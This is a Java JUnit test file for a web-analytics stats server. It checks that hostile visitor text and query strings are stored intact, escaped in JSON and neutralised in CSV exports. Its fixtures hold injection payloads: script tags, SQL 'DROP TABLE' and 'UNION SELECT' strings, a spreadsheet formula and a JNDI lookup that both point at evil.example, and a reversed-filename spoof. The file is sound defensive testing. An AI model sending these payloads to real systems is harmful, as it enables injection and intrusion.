package dev.tidemark.station.stats;

import static dev.tidemark.station.stats.StatsServer.encoded;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tidemark.event.Source;
import dev.tidemark.servers.Database;
import dev.tidemark.write.Migrations;
import dev.tidemark.write.Postgres;
import java.net.http.HttpResponse;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What comes from strangers, in events and in questions, does no harm. */
@Timeout(value = 2, unit = TimeUnit.MINUTES)
class HostileTest {
  private static final String HOUR = "from=2026-11-20T10:00:00Z&to=2026-11-20T11:00:00Z";
  private static final Instant NOW = Instant.parse("2026-11-20T13:00:00Z");

  private static final List<String> TEXTS =
      List.of(
          "<script>alert(1)</script>",
          "'; DROP TABLE page_view_counts; --",
          "\" onmouseover=\"alert(1)",
          "%' OR 1=1 --",
          "=HYPERLINK(\"https://evil.example\")",
          "+1+1",
          "-1+1",
          "@SUM(A1)",
          "\ttab",
          "\rreturn",
          "a,b\r\nc,\"d\"",
          "\u202Egnp.exe",
          "\uD83D\uDE00",
          "\\",
          "${jndi:ldap://evil.example}",
          "https://shop.example/" + "x".repeat(100_000));

  private static Database database;
  private static Postgres postgres;
  private static StatsServer server;

  @BeforeAll
  static void start() throws Exception {
    database = Database.start(null);
    postgres = Postgres.at(database.url(), database.user(), database.password());
    Migrations.apply(postgres);
    server = new StatsServer(postgres, Clock.fixed(NOW, ZoneOffset.UTC));
    List<Visit> visits = new ArrayList<>();
    for (String text : TEXTS) {
      visits.add(
          Visit.at("2026-11-20T10:10:00Z")
              .of(text)
              .from(text, Source.Kind.OTHER, text)
              .in("DE", text, text)
              .with(text, text, text, false));
    }
    MetricTables.append(postgres, List.of(), visits);
  }

  @AfterAll
  static void stop() throws Exception {
    server.close();
    database.close();
  }

  @Test
  void textsOfEventsComeBackAsTheyWereFromWindowsSummariesAndEvents() throws Exception {
    assertTextsIntact("");
    assertTextsIntact("&country=DE");
    try (Summaries summaries = new Summaries(postgres, Clock.fixed(NOW, ZoneOffset.UTC))) {
      summaries.round();
      assertThat(summaries.round().waiting(), is(0));
    }
    assertTextsIntact("");
  }

  @Test
  void everyTextFindsItselfAsAFilterAndAsASearch() throws Exception {
    for (String text : TEXTS) {
      // Longer than an address may be.
      if (text.length() < 1_000) {
        JsonNode summary = server.json("/api/stats/summary?page=" + encoded(text) + "&" + HOUR);
        assertThat(text, summary.get("hits").asInt(), is(1));
        JsonNode found =
            server.json("/api/stats/top/browsers?search=" + encoded(text) + "&" + HOUR);
        assertThat(text, found.get("rows").toString(), containsString(escaped(text)));
      }
    }
    assertThat(server.json("/api/stats/hosts?" + HOUR).get("hosts").size(), is(2));
  }

  @Test
  void noCellOfATableBeginsAFormula() throws Exception {
    for (Dimension dimension : Dimension.values()) {
      HttpResponse<String> csv =
          server.get("/api/stats/top/" + dimension.path() + ".csv?limit=100&" + HOUR);
      assertThat(csv.headers().firstValue("Content-Type").get(), startsWith("text/csv"));
      assertThat(
          csv.headers().firstValue("Content-Disposition").get(),
          is("attachment; filename=\"tidemark-" + dimension.path() + ".csv\""));
      for (List<String> line : Rfc4180.read(csv.body())) {
        for (String cell : line) {
          assertThat(cell, cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0);
        }
      }
    }
  }

  @Test
  void aTableHoldsEveryTextBehindItsApostrophe() throws Exception {
    String body = server.get("/api/stats/top/browsers?format=csv&limit=100&" + HOUR).body();
    List<List<String>> lines = Rfc4180.read(body);
    assertThat(lines.get(0), is(List.of("name", "browser", "hits", "visitors", "share")));
    List<String> names = lines.stream().skip(1).map(line -> line.get(0)).sorted().toList();
    List<String> expected =
        TEXTS.stream()
            .map(text -> "=+-@\t\r".indexOf(text.charAt(0)) >= 0 ? "'" + text : text)
            .sorted()
            .toList();
    assertThat(names, is(expected));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "summary?",
        "summary?from=2026-11-20T10:00:00Z",
        "summary?from=yesterday&to=2026-11-20T10:00:00Z",
        "summary?from=2026-11-20T11:00:00Z&to=2026-11-20T10:00:00Z",
        "summary?from=2006-11-20T11:00:00Z&to=2026-11-20T10:00:00Z",
        "summary?from=-9999-11-20T11:00:00Z&to=2026-11-20T10:00:00Z",
        "summary?HOUR&user=1",
        "summary?HOUR&limit=1",
        "summary?HOUR&host=a&host=b",
        "summary?HOUR&bot=maybe",
        "summary?HOUR&host=%00",
        "summary?HOUR&format=xml",
        "summary?HOUR&page%27%3B%20DROP%20TABLE%20ledger=1",
        "now?country=DE",
        "hosts?HOUR&host=a",
        "series?HOUR&interval=fortnight",
        "series?HOUR&timeZone=Mars/Olympus",
        "series?from=2024-11-20T10:00:00Z&to=2026-11-20T10:00:00Z&interval=minute",
        "top/pages?HOUR&limit=0",
        "top/pages?HOUR&limit=1001",
        "top/pages?HOUR&limit=1%20UNION%20SELECT",
        "top/pages?HOUR&offset=-1",
      })
  void aQuestionThatIsNotUnderstoodIsRefusedWithARemedy(String question) throws Exception {
    HttpResponse<String> response = server.get("/api/stats/" + question.replace("HOUR", HOUR));
    assertThat(response.body(), response.statusCode(), is(400));
    JsonNode body = StatsServer.JSON.readTree(response.body());
    assertThat(body.get("error").asText(), not(""));
    assertThat(body.get("remedy").asText(), not(""));
    assertThat(response.headers().firstValue("Cache-Control").get(), is("no-store"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"top/settings", "top/page_view_counts", "top/pages;--", "top/.csv"})
  void aListThatIsNotThereIsNotFound(String path) throws Exception {
    HttpResponse<String> response = server.get("/api/stats/" + path + "?" + HOUR);
    assertThat(response.body(), response.statusCode(), is(404));
  }

  private static void assertTextsIntact(String filter) throws Exception {
    for (String dimension :
        List.of("pages", "referrers", "sources", "cities", "browsers", "systems", "devices")) {
      JsonNode rows =
          server.json("/api/stats/top/" + dimension + "?limit=100&" + HOUR + filter).get("rows");
      Map<String, Integer> names = new TreeMap<>();
      rows.forEach(row -> names.put(row.get("name").asText(), row.get("hits").asInt()));
      Map<String, Integer> expected = new TreeMap<>();
      TEXTS.forEach(text -> expected.put(text, 1));
      assertThat(dimension + filter, names, is(expected));
    }
  }

  private static String escaped(String text) {
    return StatsServer.JSON.getNodeFactory().textNode(text).toString();
  }

  /** A reader of tables, written from the standard. */
  private static final class Rfc4180 {
    static List<List<String>> read(String text) {
      List<List<String>> lines = new ArrayList<>();
      List<String> line = new ArrayList<>();
      StringBuilder cell = new StringBuilder();
      boolean quoted = false;
      for (int i = 0; i < text.length(); i++) {
        char c = text.charAt(i);
        if (quoted && c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          cell.append(c);
          i++;
        } else if (c == '"') {
          quoted = !quoted;
        } else if (!quoted && c == ',') {
          line.add(cell.toString());
          cell.setLength(0);
        } else if (!quoted && c == '\r' && text.charAt(i + 1) == '\n') {
          i++;
          line.add(cell.toString());
          cell.setLength(0);
          lines.add(line);
          line = new ArrayList<>();
        } else {
          cell.append(c);
        }
      }
      return lines;
    }
  }
}
